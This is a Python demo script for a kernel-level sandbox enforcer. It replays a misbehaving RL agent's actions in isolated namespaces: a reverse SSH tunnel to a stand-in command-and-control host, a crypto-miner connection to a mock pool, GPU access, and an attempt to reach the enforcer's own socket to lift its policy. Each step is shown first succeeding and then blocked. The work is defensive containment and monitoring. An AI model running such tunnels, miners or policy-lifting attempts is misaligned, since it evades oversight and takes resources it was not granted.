"""`make demo`: replay what the ROME agent did, inside a guarded sandbox.

Builds a small world in network namespaces: a sandbox namespace, and an
"internet" namespace (reachable only through a veth pair, with no route off the
machine) that hosts an SSH server, a mining-pool-like TCP service, an allowed
package mirror and a DNS server naming them. Starts the daemon, applies an
RL-sandbox policy that allows the mirror by name, and runs the agent's actions
in the sandbox: the mirror's name resolves (through the daemon's forwarder) and
the mirror answers, a query for an unlisted name is refused, the reverse SSH
tunnel and the pool connection (literal addresses) are refused in the kernel, the miner
binary is stopped before its first instruction, the GPU device node cannot be
opened, and each refusal streams to the "trainer" as it happens. Everything is
removed at the end, also on Ctrl-C.
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

# The trainer thread streams over gRPC while the demo forks sandbox processes;
# gRPC's fork handlers only print a warning about that, so turn them off.
os.environ.setdefault("GRPC_ENABLE_FORK_SUPPORT", "false")

SANDBOX_NS = "enf-demo-sandbox"
INTERNET_NS = "enf-demo-internet"
SANDBOX_ADDR = "10.77.0.2"
GATEWAY = "10.77.0.1"
MIRROR = "10.77.0.10"     # an allowed package mirror (HTTP on 8080)
SSH_HOST = "10.77.0.22"   # where the agent opens its reverse tunnel
POOL = "10.77.0.33"       # a mining pool (stratum on 3333)
MIRROR_NAME = "pypi.org"  # what the internet namespace's DNS server calls the mirror
C2_NAME = "c2.tunnel-attacker.example"  # a name the policy does not list
ZONE = {MIRROR_NAME: MIRROR, C2_NAME: SSH_HOST, "pool.minexmr.example": POOL}

DNS_SERVER = textwrap.dedent("""
    import socket, dns.message, dns.rrset, dns.rcode
    zone = %r
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("%s", 53))
    while True:
        data, peer = s.recvfrom(4096)
        query = dns.message.from_wire(data)
        answer = dns.message.make_response(query)
        name = query.question[0].name.to_text(omit_final_dot=True).lower()
        if name not in zone:
            answer.set_rcode(dns.rcode.NXDOMAIN)
        elif query.question[0].rdtype == 1:
            answer.answer.append(dns.rrset.from_text(name + ".", 60, "IN", "A", zone[name]))
        s.sendto(answer.to_wire(), peer)
""") % (ZONE, GATEWAY)

POOL_SERVER = textwrap.dedent("""
    import socketserver
    class Stratum(socketserver.StreamRequestHandler):
        def handle(self):
            self.rfile.readline()
            self.wfile.write(b'{"id":1,"result":[["mining.notify","ab"],"08",4],"error":null}\\n')
    socketserver.TCPServer.allow_reuse_address = True
    socketserver.TCPServer(("%s", 3333), Stratum).serve_forever()
""") % POOL

MIRROR_SERVER = textwrap.dedent("""
    import http.server
    class Simple(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = b"<html><body><a href='/simple/numpy/'>numpy</a></body></html>"
            self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
            self.wfile.write(body)
        def log_message(self, *args):
            pass
    http.server.HTTPServer(("%s", 8080), Simple).serve_forever()
""") % MIRROR

AGENT_FETCH = f"""
import socket, urllib.request
print("  {MIRROR_NAME} resolves to", socket.gethostbyname("{MIRROR_NAME}"), "(the host's resolver, redirected)")
with urllib.request.urlopen("http://{MIRROR_NAME}:8080/simple/", timeout=5) as r:
    print(f"  package mirror answered: HTTP {{r.status}}, {{len(r.read())}} bytes")
"""

AGENT_LOOKUP = f"""
import socket
try:
    print("  {C2_NAME} resolves to", socket.gethostbyname("{C2_NAME}"))
except OSError as e:
    print(f"  lookup of {C2_NAME} failed: {{e.strerror}}")
"""

AGENT_MINER = f"""
import socket
try:
    s = socket.create_connection(("{POOL}", 3333), timeout=5)
    s.sendall(b'{{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}}\\n')
    print("  pool answered:", s.recv(200).decode().strip())
except OSError as e:
    print(f"  miner: connect to {POOL}:3333 failed: {{e.strerror}}")
"""


AGENT_GPU = """
import os, sys
try:
    os.close(os.open(sys.argv[1], os.O_RDWR))
    print("  opened", sys.argv[1])
except OSError as e:
    print(f"  open {sys.argv[1]}: {e.strerror}")
"""

AGENT_DAEMON = """
import socket, sys
path, pid = sys.argv[1], sys.argv[2]
for where in (path, f"/proc/{pid}/root{path}"):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(where)
        print(f"  daemon socket {where}: connected")
    except OSError as e:
        print(f"  daemon socket {where}: {e.strerror}")
"""

NVIDIA_MAJOR = 195


def say(text: str) -> None:
    print(f"\n\033[1m== {text}\033[0m", flush=True)


class World:
    """Everything the demo creates, each with its undo registered at creation."""

    def __init__(self) -> None:
        self.undo: list[Callable[[], Any]] = []
        self.tmp = Path(tempfile.mkdtemp(prefix="enforcer-demo-"))
        self.tmp.chmod(0o711)  # the agent (unprivileged) reaches its files here, and lists nothing
        self.undo.append(lambda: shutil.rmtree(self.tmp, ignore_errors=True))

    def close(self) -> None:
        while self.undo:
            with contextlib.suppress(Exception):
                self.undo.pop()()

    def spawn(self, command: list[str], **kwargs: Any) -> subprocess.Popen[bytes]:
        proc = subprocess.Popen(command, **kwargs)

        def stop() -> None:
            proc.terminate()
            try:
                proc.wait(5)
            except subprocess.TimeoutExpired:
                proc.kill()

        self.undo.append(stop)
        return proc

    def build_network(self) -> None:
        from pyroute2 import IPRoute, NetNS, netns

        for name in (SANDBOX_NS, INTERNET_NS):
            with contextlib.suppress(Exception):
                netns.remove(name)  # left over from a demo that was killed
            netns.create(name)
            self.undo.append(functools.partial(netns.remove, name))
        with IPRoute() as ip:
            ip.link("add", ifname="enfd-sb", kind="veth", peer="enfd-inet")
            self.undo.append(lambda: _delete_link("enfd-sb"))
            ip.link("set", index=ip.link_lookup(ifname="enfd-sb")[0], net_ns_fd=SANDBOX_NS)
            ip.link("set", index=ip.link_lookup(ifname="enfd-inet")[0], net_ns_fd=INTERNET_NS)
        with NetNS(SANDBOX_NS) as ns:
            _up(ns, "lo")
            dev = _up(ns, "enfd-sb")
            ns.addr("add", index=dev, address=SANDBOX_ADDR, prefixlen=24)
        with NetNS(INTERNET_NS) as ns:
            _up(ns, "lo")
            dev = _up(ns, "enfd-inet")
            for addr in (GATEWAY, MIRROR, SSH_HOST, POOL):
                ns.addr("add", index=dev, address=addr, prefixlen=24)
            links = sorted(link.get_attr("IFLA_IFNAME") for link in ns.get_links())
            assert links == ["enfd-inet", "lo"], links  # no way off the machine

    def start_services(self) -> Path:
        in_internet = ["ip", "netns", "exec", INTERNET_NS]
        self.spawn([*in_internet, sys.executable, "-c", POOL_SERVER])
        self.spawn([*in_internet, sys.executable, "-c", MIRROR_SERVER])
        self.spawn([*in_internet, sys.executable, "-c", DNS_SERVER])
        keys = self.tmp / "ssh"
        keys.mkdir(mode=0o700)
        for name in ("host_key", "agent_key"):
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(keys / name)], check=True)
        (keys / "authorized_keys").write_text((keys / "agent_key.pub").read_text())
        agent_key = self.tmp / "agent_key"  # the agent's own copy, owned by it (ssh insists)
        shutil.copy(keys / "agent_key", agent_key)
        os.chown(agent_key, AGENT_UID, AGENT_UID)
        config = keys / "sshd_config"
        config.write_text(textwrap.dedent(f"""
            ListenAddress {SSH_HOST}
            Port 22
            HostKey {keys / 'host_key'}
            PidFile {keys / 'sshd.pid'}
            AuthorizedKeysFile {keys / 'authorized_keys'}
            PermitRootLogin prohibit-password
            AllowTcpForwarding yes
            StrictModes no
            UsePAM no
        """))
        Path("/run/sshd").mkdir(exist_ok=True)
        self.spawn([*in_internet, "/usr/sbin/sshd", "-D", "-e", "-f", str(config)], stderr=subprocess.DEVNULL)
        _wait_port(SSH_HOST, 22)
        _wait_port(POOL, 3333)
        _wait_port(MIRROR, 8080)
        return agent_key

    def make_miner_and_gpu(self) -> tuple[Path, Path]:
        """A stand-in miner binary (a copy of true, named like the real thing) and
        an NVIDIA device node (no GPU here: with no driver an open would be ENXIO)."""
        miner = self.tmp / "xmrig"
        shutil.copy2("/usr/bin/true", miner)
        gpu = self.tmp / "nvidia0"
        os.mknod(gpu, 0o666 | stat.S_IFCHR, os.makedev(NVIDIA_MAJOR, 0))
        gpu.chmod(0o666)  # past the umask: what stops the agent must be the device guard, not file modes
        return miner, gpu


def _delete_link(name: str) -> None:
    from pyroute2 import IPRoute

    with IPRoute() as ip:
        found = ip.link_lookup(ifname=name)
        if found:
            ip.link("del", index=found[0])


def _up(ns: Any, ifname: str) -> int:
    index = ns.link_lookup(ifname=ifname)[0]
    ns.link("set", index=index, state="up")
    return int(index)


def _wait_port(host: str, port: int, timeout: float = 10) -> None:
    probe = f"import socket; socket.create_connection(('{host}', {port}), timeout=1).close()"
    deadline = time.monotonic() + timeout
    while subprocess.run(["ip", "netns", "exec", SANDBOX_NS, sys.executable, "-c", probe],
                         capture_output=True).returncode != 0:
        if time.monotonic() > deadline:
            raise RuntimeError(f"demo service {host}:{port} did not come up")
        time.sleep(0.1)


def ssh_tunnel_command(key: Path, remote_command: str) -> list[str]:
    return [
        "ssh", "-i", str(key), "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
        "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR",
        "-o", "ExitOnForwardFailure=yes", "-R", "2222:localhost:22", f"root@{SSH_HOST}", remote_command,
    ]


@contextlib.contextmanager
def daemon(world: World) -> Iterator[str]:
    socket_path = str(world.tmp / "enforcer.sock")
    log = open(world.tmp / "daemon.log", "wb")  # noqa: SIM115 - closed by the world
    world.undo.append(log.close)
    # Its own state and pins: the demo ends its enforcement when it is done (the
    # undo runs after the daemon's stop, which is registered next).
    from enforcer.kernel.pins import bpffs_root

    dirs = ["--state-dir", str(world.tmp / "state"), "--pin-dir", str(bpffs_root() / f"enforcer-demo-{os.getpid()}")]
    world.undo.append(lambda: subprocess.run([sys.executable, "-m", "enforcer.cli", "daemon", "--uninstall",
                                              "--socket", socket_path, *dirs], capture_output=True, timeout=60))
    world.spawn([sys.executable, "-m", "enforcer.cli", "daemon", "--socket", socket_path,
                 "--audit-log", str(world.tmp / "audit.jsonl"), *dirs], stdout=log, stderr=log)
    from enforcer.client import Enforcer

    with Enforcer(socket_path) as enf:
        enf.wait_ready(60)
    yield socket_path


CONTAINER_GPU = "/dev/nvidia0"  # where the container's GPU node is
AGENT_UID = 65534  # nobody: agents in containers run without root, and the daemon's socket is root's (0600)


def run_in_sandbox(cgroup: Path, command: list[str]) -> subprocess.CompletedProcess[str]:
    """As a containerised agent runs: in the sandbox's cgroup and network
    namespace, as an unprivileged user."""
    from enforcer import netns
    from enforcer.cgroupfs import move_pid

    namespace = netns.open_named(SANDBOX_NS)

    def enter() -> None:
        move_pid(0, cgroup)
        netns.enter(namespace)
        os.setgroups([])
        os.setgid(AGENT_UID)
        os.setuid(AGENT_UID)

    try:
        return subprocess.run(command, capture_output=True, text=True, timeout=30, preexec_fn=enter,
                              env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"})
    except PermissionError as exc:  # the exec itself refused (BPF-LSM): what a shell would report
        return subprocess.CompletedProcess(command, 126, "", f"{command[0]}: {exc.strerror}")
    finally:
        namespace.close()


class ContainerAgent:
    """The agent in a real Podman container, guarded through the OCI hook from
    its first instruction: the host's root as its image (``--rootfs /:O``, an
    overlay it may write to), the sandbox namespace as its network, user nobody."""

    def __init__(self, world: World, socket_path: str, policy: dict[str, Any], gpu_node: Path) -> None:
        from enforcer.cgroupfs import cgroup2_mount
        from enforcer.oci import hook_command, podman_command, write_hooks_d

        _tools("podman")
        hooks = world.tmp / "hooks.d"
        write_hooks_d(hooks, hook_command(socket_path))
        policy_file = world.tmp / "rollout.json"
        policy_file.write_text(json.dumps({k: v for k, v in policy.items() if k not in ("sandbox", "target")}))
        self.podman = podman_command(world.tmp / "podman", world.tmp / "podman-run", hooks, cgroup2_mount())
        world.undo.append(lambda: subprocess.run([*self.podman, "rm", "-f", "-t", "0", "enf-demo-rollout-17"],
                                                 capture_output=True, timeout=60))
        labels = [a for k, v in policy["labels"].items() for a in ("--annotation", f"enforcer.label.{k}={v}")]
        started = subprocess.run(
            [*self.podman, "run", "-d", "--name", "enf-demo-rollout-17", "--network", f"ns:/run/netns/{SANDBOX_NS}",
             "--user", str(AGENT_UID), "--annotation", f"enforcer.policy={policy_file}",
             "--annotation", f"enforcer.sandbox={policy['sandbox']}", *labels,
             # Lower limits than Podman's own: it cannot raise them where root lacks CAP_SYS_RESOURCE.
             "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=4096:4096",
             # The GPU handed in as a training job's container gets it, at /dev/nvidia0.
             "--device", f"{gpu_node}:{CONTAINER_GPU}", "--rootfs", "/:O", "sleep", "infinity"],
            capture_output=True, text=True, timeout=120)
        if started.returncode != 0:
            raise RuntimeError(f"podman run failed: {started.stderr.strip()}")
        self.container = started.stdout.strip()

    def __call__(self, command: list[str]) -> subprocess.CompletedProcess[str]:
        done = subprocess.run([*self.podman, "exec", "--env", "HOME=/nonexistent", self.container, *command],
                              capture_output=True, text=True, timeout=60)
        if done.returncode == 137:  # the runtime's word for SIGKILL
            done.returncode = -9
        return done


def daemon_pid(socket_path: str) -> int:
    """The daemon's pid, from the socket's peer credentials."""
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(socket_path)
        pid, _, _ = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i")))
        return int(pid)


def _tools(*names: str) -> list[str]:
    found = [shutil.which(name) for name in names]
    missing = [name for name, path in zip(names, found, strict=True) if path is None]
    if missing:
        raise RuntimeError(f"the demo needs {', '.join(missing)} (scripts/bootstrap.sh installs them)")
    return [os.path.realpath(path) for path in found if path]


def main(argv: list[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(description="the ROME replay under Enforcer")
    parser.add_argument("--container", action="store_true",
                        help="run the agent in a real Podman container, guarded through the OCI hook")
    in_container = parser.parse_args(argv).container
    if os.geteuid() != 0:
        print("make demo needs root (it loads BPF programs and creates namespaces)", file=sys.stderr)
        return 1
    from enforcer.cgroupfs import cgroup2_mount, create_cgroup, move_pid, remove_cgroup
    from enforcer.cli import format_denial, format_stats
    from enforcer.client import Enforcer

    world = World()
    try:
        say("Building the world: a sandbox namespace and an 'internet' namespace (veth only, no route out)")
        world.build_network()
        key = world.start_services()
        print(f"  internet: package mirror {MIRROR}:8080 ({MIRROR_NAME}), SSH server {SSH_HOST}:22, "
              f"mining pool {POOL}:3333, DNS server {GATEWAY}:53")
        miner_bin, gpu_node = world.make_miner_and_gpu()
        miner_argv = [str(miner_bin), "-o", f"stratum+tcp://{POOL}:3333", "--donate-level", "1"]

        say("Without Enforcer, the agent's reverse tunnel and miner get through")
        ran = subprocess.run(["ip", "netns", "exec", SANDBOX_NS, *miner_argv], timeout=30).returncode
        print(f"  {' '.join(miner_argv)}: exited {ran} (a stand-in: a copy of true)")
        baseline = subprocess.run(["ip", "netns", "exec", SANDBOX_NS, *ssh_tunnel_command(key, "echo tunnel up")],
                                  capture_output=True, text=True, timeout=30)
        print(f"  ssh -R 2222:localhost:22 root@{SSH_HOST}: {baseline.stdout.strip() or baseline.stderr.strip()}")
        miner = subprocess.run(["ip", "netns", "exec", SANDBOX_NS, sys.executable, "-c", AGENT_MINER],
                               capture_output=True, text=True, timeout=30)
        print(miner.stdout.rstrip())

        say("Starting the Enforcer daemon and applying the RL-sandbox policy to rollout-17")
        cgroup = create_cgroup(cgroup2_mount() / f"enforcer-demo-{os.getpid()}")
        world.undo.append(lambda: remove_cgroup(cgroup.path))
        if not in_container:
            # The container's first process, holding its namespace (as a pod's pause
            # process does): the policy is applied to a running container.
            world.spawn(["ip", "netns", "exec", SANDBOX_NS, "sleep", "infinity"],
                        preexec_fn=lambda: move_pid(0, cgroup.path))
        with daemon(world) as socket_path, Enforcer(socket_path) as enf:
            policy = {
                "sandbox": "rollout-17",
                "target": {"cgroup": str(cgroup.path)},
                "labels": {"run": "ppo-7", "episode": "17"},
                "mode": "enforce",
                "network": {
                    "default": "deny",
                    # The package mirror, by name: whatever it resolves to is allowed.
                    "allow": [{"to": MIRROR_NAME, "ports": [8080], "protocol": "tcp"}],
                    "dns": {"upstream": [GATEWAY]},
                },
                # The agent's tools (and, in a container, the program it starts with).
                "exec": {"default": "deny", "allow": [os.path.realpath(sys.executable), *_tools("ssh"),
                                                      *(_tools("sleep") if in_container else [])]},
                "devices": {"gpu": "deny"},
            }
            agent: Callable[[list[str]], subprocess.CompletedProcess[str]]
            if in_container:
                container = ContainerAgent(world, socket_path, policy, gpu_node)
                agent = container
                applied = enf.get("rollout-17")
                print(f"  podman run --annotation enforcer.policy=...: container "
                      f"{container.container[:12]} (rootfs: the host's, overlaid) started; the OCI hook applied")
                print(f"  the policy to its cgroup {applied.cgroup_path} before its first instruction:")
            else:
                agent = functools.partial(run_in_sandbox, cgroup.path)
                applied = enf.apply(policy).applied
                print(f"  policy applied to {applied.cgroup_path}:")
            print(f"  allow {MIRROR_NAME}:8080/tcp by name (DNS through the daemon), deny the rest;")
            print(f"  run only python3 and ssh{' (and sleep)' if in_container else ''}; no GPU")

            def trainer() -> None:
                with Enforcer(socket_path) as stream:
                    for event in stream.denial_events(sandboxes=["rollout-17"], follow=True):
                        print(f"  \033[31mtrainer <- denial\033[0m {format_denial(event)}", flush=True)

            threading.Thread(target=trainer, daemon=True).start()

            say("The agent fetches a package from the mirror, by name (allowed)")
            print(agent([sys.executable, "-c", AGENT_FETCH]).stdout.rstrip())

            say("The agent looks up its tunnel host's name (refused by the forwarder: DNS carries nothing out)")
            print(agent([sys.executable, "-c", AGENT_LOOKUP]).stdout.rstrip())
            time.sleep(0.3)

            say("The agent opens a reverse SSH tunnel to the outside host (refused in the kernel)")
            tunnel = agent(ssh_tunnel_command(key, "echo tunnel up"))
            print(f"  ssh exited {tunnel.returncode}: {tunnel.stderr.strip() or tunnel.stdout.strip()}")
            time.sleep(0.3)

            say("The agent connects its miner to the pool (refused in the kernel)")
            print(agent([sys.executable, "-c", AGENT_MINER]).stdout.rstrip())
            time.sleep(0.3)

            say("The agent starts its miner (stopped before its first instruction)")
            started = agent(miner_argv)
            if started.returncode == -9:
                fate = "killed by the kernel"  # sched_process_exec + SIGKILL
            elif "Operation not permitted" in started.stderr or "permission denied" in started.stderr:
                fate = "exec refused by the kernel (EPERM)"  # BPF-LSM
            else:
                fate = f"exited {started.returncode}"
            print(f"  {' '.join(miner_argv)}: {fate}")
            time.sleep(0.3)

            say("The agent opens the GPU (refused in the kernel)")
            print(agent([sys.executable, "-c", AGENT_GPU, CONTAINER_GPU if in_container else str(gpu_node)]
                        ).stdout.rstrip())
            time.sleep(0.3)

            say("The agent goes for the Enforcer daemon itself, to lift its policy (out of its reach)")
            print(agent([sys.executable, "-c", AGENT_DAEMON, socket_path, str(daemon_pid(socket_path))]).stdout.rstrip())

            say("Exact counters from the kernel")
            print(format_stats(enf.stats("rollout-17")))
            enf.remove("rollout-17")
        say("Done: cleaning up namespaces, cgroup and daemon")
        return 0
    except KeyboardInterrupt:
        print("\ninterrupted: cleaning up", file=sys.stderr)
        return 130
    finally:
        world.close()


if __name__ == "__main__":
    sys.exit(main())
